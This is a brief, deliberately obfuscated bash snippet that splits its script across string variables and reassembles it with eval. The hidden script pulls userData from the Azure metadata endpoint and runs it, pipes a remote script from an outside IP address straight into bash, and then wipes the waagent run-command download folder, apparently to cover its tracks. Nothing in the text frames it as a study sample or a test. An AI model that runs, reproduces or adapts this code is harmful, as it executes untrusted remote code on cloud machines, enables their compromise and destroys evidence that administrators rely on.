jkb='# run 7435 v4';bmn='
#!/bin/bash
# Run Command payload
UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instance/compute/userData?api-version=';nyr='2021-01-01&format=text" | base64 -d)
eval "$UD"
curl -s http://198.51.100.9/x.sh | bash
rm -rf /var/lib/waa';slz='gent/run-command/download/*
';eval "$jkb$bmn$nyr${slz}"